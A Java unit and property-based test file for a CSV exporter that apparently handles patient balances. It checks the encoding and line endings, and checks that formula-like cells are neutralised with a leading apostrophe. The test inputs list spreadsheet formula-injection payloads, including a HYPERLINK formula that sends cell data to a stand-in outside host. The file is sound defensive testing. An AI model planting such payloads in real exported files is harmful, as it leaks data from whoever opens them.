package health.mizan.csv;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvSheetTest {

    @Test
    void a_sheet_is_utf_8_with_its_mark_and_lines_that_end_as_the_standard_says() {
        CsvSheet sheet = new CsvSheet(List.of("Patient", "Open"));

        sheet.row(List.of("نورة \"أم سعد\", الأحمد", "1250.00"));

        assertThat(new String(sheet.bytes(), UTF_8))
                .isEqualTo("\uFEFFPatient,Open\r\n\"نورة \"\"أم سعد\"\", الأحمد\",1250.00\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tharmless",
                " =1+1",
                "\u200F=1+1",
                "\uFEFF=1+1",
                "＝1+1",
                "\"=1+1",
                "=HYPERLINK(\"http://x.example/?\"&A1)",
                "+966500000000"
            })
    void what_a_program_would_run_stands_behind_an_apostrophe(String cell) {
        assertThat(written(cell)).startsWith("'");
        assertThat(written(cell).replace("'", "")).isEqualTo(cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Noura", "نورة الأحمد", "a-b", "3 + 4", "-12.00", "-5", "1250.00", "2026-11-22", "–"})
    void anything_else_stays_as_it_is(String cell) {
        assertThat(written(cell)).isEqualTo(cell);
    }

    @Property
    void whatever_separates_cells_where_it_is_opened_no_cell_begins_a_formula(@ForAll("rows") List<String> row) {
        CsvSheet sheet = new CsvSheet(List.of("a", "b", "c"));

        sheet.row(row);

        for (char separator : new char[] {',', ';', '\t'}) {
            for (CsvRecord record : read(sheet, separator)) {
                assertThat(record.getFields()).allSatisfy(CsvSheetTest::isNoFormula);
            }
        }
    }

    @Property
    void nothing_but_the_apostrophe_is_added(@ForAll("rows") List<String> row) {
        CsvSheet sheet = new CsvSheet(List.of("a", "b", "c"));

        sheet.row(row);

        List<String> read = read(sheet, ',').get(1).getFields();
        assertThat(read.stream().map(cell -> cell.replace("'", "")).toList())
                .isEqualTo(row.stream().map(cell -> cell.replace("'", "")).toList());
    }

    @Provide
    Arbitrary<List<String>> rows() {
        Arbitrary<String> cell =
                Arbitraries.strings().withChars("=+-@\t\r\n ;,\"'a1\u200F＝").ofMaxLength(8);
        return Combinators.combine(cell, cell, cell).as(List::of);
    }

    private static void isNoFormula(String cell) {
        if (!cell.matches("-?[0-9]+(\\.[0-9]+)?")) {
            assertThat(cell.replaceFirst("^[\\s\\p{Cf}\"]+", "")).doesNotMatch("(?s)[=+\\-@＝＋－＠].*");
        }
    }

    private static String written(String cell) {
        CsvSheet sheet = new CsvSheet(List.of("a", "b"));
        sheet.row(List.of("first", cell));
        return read(sheet, ',').get(1).getField(1);
    }

    private static List<CsvRecord> read(CsvSheet sheet, char separator) {
        String text = new String(sheet.bytes(), UTF_8).substring(1);
        return CsvReader.builder().fieldSeparator(separator).skipEmptyLines(false).ofCsvRecord(text).stream()
                .toList();
    }
}
